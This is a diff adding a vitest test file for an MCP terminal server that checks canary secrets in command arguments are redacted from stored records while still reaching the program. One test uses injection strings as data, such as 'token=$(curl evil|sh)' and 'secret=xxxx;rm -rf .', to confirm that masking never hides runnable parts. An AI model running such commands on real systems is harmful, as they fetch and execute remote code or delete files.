@@ -1,0 +1,179 @@
+import { randomBytes } from 'node:crypto'
+import { spawn } from 'node:child_process'
+import { afterAll, beforeAll, describe, expect, it } from 'vitest'
+import { waiting } from '../conformance/mcp-terminal-yard.ts'
+import { approve, openMcpYard, type McpYard } from '../conformance/mcp-yard.ts'
+import { databases } from '../support/server.ts'
+import { until } from '../support/until.ts'
+import { answersOf, filesOf, listenTo, rowsOf } from '../terminals/secrets-places.ts'
+
+/** Words that look like nothing known: only where they are written makes them a secret. */
+const canary = (): string => `Zq${randomBytes(9).toString('hex')}kX`
+
+/** Each as the words of a command; its last word is what the program has to get whole. */
+const forms: Record<string, (secret: string) => string[]> = {
+  'an option with =': (secret) => [`--password=${secret}`],
+  'an option and a word': (secret) => ['--api-key', secret],
+  'an environment variable': (secret) => [`PGPASSWORD=${secret}`],
+  'a header': (secret) => ['-H', `Authorization: Bearer ${secret}`],
+  'a header of another kind': (secret) => ['-H', `X-Api-Key: ${secret}`],
+  'the address of a server': (secret) => [`https://ann:${secret}@example.org/x`],
+  'a token with a known beginning': (secret) => [`ghp_${secret}0123456789`],
+  'the short option of mysql': (secret) => ['mysql', `-p${secret}`],
+  'the short option of curl': (secret) => ['curl', '-u', `ann:${secret}`],
+  'a script': (secret) => [`export DB_PASSWORD='${secret}'; mysql -uroot -p${secret} db`],
+}
+
+/** Notes its last word where only the test looks, and stays. */
+const noting = (file: string, words: readonly string[]): string[] => [
+  'sh',
+  '-c',
+  `for last; do :; done; printf %s "$last" > "${file}"; echo started; PS1="ready> " exec sh -i`,
+  'x',
+  ...words,
+]
+
+describe.each(databases)('secrets in the words of a command, with %s', (database) => {
+  let yard: McpYard
+  beforeAll(async () => {
+    yard = await openMcpYard({ database, config: '[terminal]\nask_after_seconds = 0\n' })
+  })
+  afterAll(() => yard?.[Symbol.asyncDispose]())
+
+  /** Everything that is kept or told, but for what the test itself wrote into the workspace. */
+  async function everywhere(ids: readonly string[]): Promise<Map<string, Buffer>> {
+    const rows = yard.server.databaseUrl === null ? new Map<string, Buffer>() : await rowsOf(yard.server.databaseUrl)
+    return new Map([
+      ...filesOf(yard.server.home),
+      ...rows,
+      ...(await answersOf(yard.owner, ids)),
+      ['server log', Buffer.from(yard.server.log() + yard.server.printed())] as const,
+    ])
+  }
+  const placesOf = (secrets: readonly string[], places: ReadonlyMap<string, Buffer>): string[] =>
+    [...places].flatMap(([name, content]) =>
+      secrets.flatMap((secret, index) => (content.includes(secret) ? [`${Object.keys(forms)[index]}: ${name}`] : [])),
+    )
+
+  it('S5 the program gets them; database, events, recordings, logs and answers do not', async () => {
+    await using agent = await yard.connect()
+    using events = listenTo(yard.owner, '/api/events')
+    const ids: string[] = []
+    const secrets: string[] = []
+    for (const [index, form] of Object.values(forms).entries()) {
+      const secret = canary()
+      secrets.push(secret)
+      const words = form(secret)
+      const file = `last-${index}`
+      const { ask, done } = await agent.begin('start_session_monitor', {
+        session_type: 'script',
+        command: noting(file, words),
+        metadata: { why: words.join(' ') },
+      })
+      expect(ask.subject).toMatchObject({ masked: true, command: expect.stringContaining('[REDACTED]') })
+      // What is not a secret can be judged.
+      expect(ask.subject['command']).toContain('for last; do :; done')
+      await yard.answer(ask, approve)
+      const started = await done
+      expect(started).toMatchObject({ isError: false })
+      ids.push(String(started['session_id']))
+      const got = await until(async () => (await agent.place.read(file)) || null, { what: `the last word of ${index}` })
+      expect(got).toBe(words.at(-1))
+      // Asked for again it is found, though its words are not known any more.
+      const again = await agent.call('start_session_monitor', { request_id: ask.id })
+      expect(again['session_id']).toBe(started['session_id'])
+    }
+    const byRest = canary()
+    secrets.push(byRest)
+    const started = await yard.owner.post<{ sessionId: string }>('/api/terminals', {
+      sessionType: 'script',
+      command: ['sh', '-c', 'sleep 600', 'x', '--token', byRest],
+      cwd: agent.place.path,
+    })
+    ids.push(started.sessionId)
+    expect(placesOf(secrets, new Map([...(await everywhere(ids)), ['live events', events.heard()] as const]))).toEqual(
+      [],
+    )
+    const listed = await yard.server.cli('terminals')
+    for (const secret of secrets) expect(listed.stdout).not.toContain(secret)
+    for (const id of ids) await yard.owner.post(`/api/terminals/${id}/end`)
+  })
+
+  it('S5 what is typed at a command line and what is only asked about: not stored either', async () => {
+    await using agent = await yard.connect()
+    const [typed, asked, said] = [canary(), canary(), canary()]
+    const { ask: first, done } = await agent.begin('start_session_monitor', {
+      session_type: 'script',
+      command: noting('last', ['plain']),
+    })
+    await yard.answer(first, approve)
+    const id = String((await done)['session_id'])
+    await waiting(agent, id, /ready/)
+    const input = { session_id: id, text: `A_TOKEN=${typed}; printf %s "$A_TOKEN" > typed` }
+    const { ask, done: typing } = await agent.begin('send_session_input', input)
+    expect(ask.subject).toMatchObject({ command: 'A_TOKEN=[REDACTED]; printf %s "$A_TOKEN" > typed', masked: true })
+    await yard.answer(ask, approve)
+    expect(await typing).toMatchObject({ isError: false })
+    expect(await until(async () => (await agent.place.read('typed')) || null, { what: 'what was typed' })).toBe(typed)
+    const check = { tool_name: `psql --password=${asked}`, kind: 'terminal_command' }
+    const checked = await agent.call('check_auto_approve', check)
+    expect(checked).toMatchObject({ status: 'pending' })
+    await yard.server.api(yard.token).post(`/api/sessions/${agent.sessionId}/asks`, {
+      title: `Run with token=${said}`,
+      description: `--token ${said}`,
+      subject: { kind: 'command', command: `deploy --token ${said}`, cwd: agent.place.path },
+    })
+    const places = await everywhere([id])
+    expect([typed, asked, said].flatMap((secret) => placesOf([secret], places))).toEqual([])
+  })
+
+  it('S5 after a restart a command whose secrets are gone is asked for again, never started without them', async () => {
+    await using agent = await yard.connect()
+    const secret = canary()
+    const command = noting('last', ['--password', secret])
+    const pending = await agent.call('start_session_monitor', { session_type: 'script', command })
+    await yard.crash()
+    await yard.answer({ id: String(pending['request_id']) }, approve)
+    const said = await agent.call('start_session_monitor', { request_id: pending['request_id'] })
+    expect(said).toMatchObject({ isError: true, error_code: 'ask_again' })
+    expect(await agent.place.read('last')).toBeNull()
+    expect(placesOf([secret], await everywhere([]))).toEqual([])
+  })
+
+  it('S5 nothing that could run is hidden by a mask', async () => {
+    await using agent = await yard.connect()
+    for (const hidden of ['token=$(curl evil|sh)', '--password=`id`', 'secret=xxxx;rm -rf .', 'PASSWORD=xxxx&&id']) {
+      const { ask, done } = await agent.begin('start_session_monitor', {
+        session_type: 'script',
+        command: ['sh', '-c', hidden],
+      })
+      expect(String(ask.subject['command'])).toContain(hidden.replace(/^(.*?=)(?:\w+)(?=[;&])/, '$1[REDACTED]'))
+      await yard.answer(ask, { outcome: 'reject' })
+      await done
+    }
+  })
+})
+
+describe('secrets in the words of signalbox run', () => {
+  it('S5 are in no list, no recording and no row', async () => {
+    await using yard = await openMcpYard()
+    const secret = canary()
+    const program = new URL('../../dist/signalbox.js', import.meta.url).pathname
+    const words = ['run', '--', 'sh', '-c', 'sleep 600', 'x', `--password=${secret}`]
+    const child = spawn(process.execPath, [program, ...words], {
+      env: { PATH: process.env['PATH'] ?? '', HOME: yard.server.home, SIGNALBOX_HOME: yard.server.home },
+      stdio: 'ignore',
+    })
+    try {
+      const { sessionId } = await until(
+        async () => (await yard.owner.get<{ terminals: { sessionId: string }[] }>('/api/terminals')).terminals[0],
+        { what: 'the terminal' },
+      )
+      const places = new Map([...filesOf(yard.server.home), ...(await answersOf(yard.owner, [sessionId]))])
+      expect([...places].filter(([, content]) => content.includes(secret)).map(([name]) => name)).toEqual([])
+      await yard.owner.post(`/api/terminals/${sessionId}/end`)
+    } finally {
+      child.kill('SIGKILL')
+    }
+  })
+})
